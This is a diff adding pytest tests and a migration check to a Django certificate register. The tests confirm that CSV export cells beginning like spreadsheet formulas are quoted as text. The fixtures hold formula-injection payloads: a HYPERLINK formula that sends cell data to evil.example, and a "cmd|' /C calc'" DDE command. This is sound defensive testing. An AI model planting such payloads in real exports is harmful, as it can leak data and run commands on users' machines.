@@ -8,16 +8,19 @@ import csv
 import dataclasses
 import datetime as dt
 import gc
+import importlib
 import io
 import json
 import tracemalloc
 from collections.abc import Iterator
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 from urllib.parse import quote
 
 import pytest
 import time_machine
+from django.apps import apps as django_apps
 from django.core.management import call_command
 from django.core.management.base import CommandError
 from django.db import connection
@@ -42,6 +45,7 @@ from apcert.demo.generate import demo_data_generate
 from apcert.organizations.services import organization_create, site_create
 from apcert.register import exports, selectors
 from apcert.register.documents import certificate_document, document_on_day
+from apcert.register.index import index_check
 from apcert.register.models import SearchEntry
 from apcert.schemes.models import ProcessCategory
 from tests.factories import DAY0, World, make_user
@@ -624,3 +628,94 @@ def test_export_streams_in_bounded_memory_as_the_register_grows_tenfold(
     # then the peak stays under a fixed bound and does not grow with the register
     assert large < MEMORY_BOUND
     assert large / small < 1.5
+
+
+# --- cells a spreadsheet would run as formulas ------------------------------------------------
+
+FORMULA = '{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def _holder_named_like_a_formula(start: str) -> tuple[World, Certificate]:
+    """A holder, its site and the site's city each named as a formula beginning with
+    ``start``, with a certificate."""
+    world = World.build()
+    user = make_user("holder")
+    org = organization_create(
+        actor=user, legal_name=FORMULA.format(start=start), country="FR", registration_number="1"
+    )
+    site = site_create(
+        actor=user,
+        organization=org,
+        name=f"{start}1+1",
+        city=f"{start}cmd|' /C calc'!A0",
+        country="FR",
+    )
+    world = dataclasses.replace(world, org=org, org_user=user, site=site, site2=site)
+    return world, world.granted(category="PWB")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_holder_and_site_named_like_formulas_are_text_in_the_csv_export(
+    world: World, client: Client, start: str
+) -> None:
+    # given a certificate whose holder, site and city begin like a formula
+    _world, cert = _holder_named_like_a_formula(start)
+    holder = FORMULA.format(start=start)
+    # when the register is exported, over HTTP and by the command
+    served = _body(client.get(CSV_URL))
+    out = io.StringIO()
+    call_command("export", format="csv", stdout=out)
+    # then both carry the cells with a leading quote, and no cell begins like a formula
+    assert out.getvalue() == served
+    rows = {row["number"]: row for row in _csv_rows(served)}
+    row = rows[cert.number]
+    assert row["holder_name"] == "'" + holder
+    assert row["sites"] == f"'{start}1+1, {start}cmd|' /C calc'!A0, FR"
+    cells = [cell for row in rows.values() for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # the row the index keeps is the neutralised one, and a row made at export time too
+    kept = SearchEntry.objects.get(certificate=cert).csv_row
+    quoted = holder.replace('"', '""')
+    assert kept is not None and f',"\'{quoted}",FR,' in kept
+    SearchEntry.objects.update(csv_row=None)
+    assert _body(client.get(CSV_URL)) == served
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_cell_that_begins_like_a_formula_gets_a_leading_quote(
+    register: Register, start: str
+) -> None:
+    # (the services strip names, so a leading tab or carriage return is put in the
+    # document itself)
+    document = json.loads(SearchEntry.objects.get(certificate=register.french).document)
+    document["holder"]["name"] = f"{start}SUM(A1:A9)"
+    document["status_reason_category"] = f"{start}x"
+    (row,) = list(csv.reader(io.StringIO(exports.csv_line(document), newline="")))
+    cells = dict(zip(exports.CSV_COLUMNS, row, strict=True))
+    assert cells["holder_name"] == f"'{start}SUM(A1:A9)"
+    assert cells["status_reason_category"] == f"'{start}x"
+    # and a cell that does not begin like one is as it was
+    assert cells["holder_country"] == "FR" and cells["number"] == register.french.number
+
+
+def test_the_migration_quotes_the_formula_cells_of_rows_kept_before_it(world: World) -> None:
+    # given rows kept before cells were quoted: one with a formula cell, and ordinary ones
+    _world, evil = _holder_named_like_a_formula("=")
+    plain = world.granted()
+    fresh = dict(SearchEntry.objects.values_list("certificate_id", "csv_row"))
+    unquoted = {pk: str(text).replace(",\"'=", ',"=') for pk, text in fresh.items()}
+    assert unquoted[evil.pk] != fresh[evil.pk] and unquoted[plain.pk] == fresh[plain.pk]
+    for pk, text in unquoted.items():
+        SearchEntry.objects.filter(certificate_id=pk).update(csv_row=text)
+    assert index_check() == [f"{evil.number}: csv_row differs"]
+    migration = importlib.import_module("apcert.register.migrations.0010_csv_row_formula_cells")
+    editor = SimpleNamespace(connection=connection)
+    # when the migration runs, a chunk at a time (two, to cross a chunk's end)
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(migration, "CHUNK", 1)
+        migration.quote_formula_cells(django_apps, editor)
+    # then the rows are those a fresh build writes, and a second run changes nothing
+    assert dict(SearchEntry.objects.values_list("certificate_id", "csv_row")) == fresh
+    assert index_check() == []
+    migration.quote_formula_cells(django_apps, editor)
+    assert dict(SearchEntry.objects.values_list("certificate_id", "csv_row")) == fresh
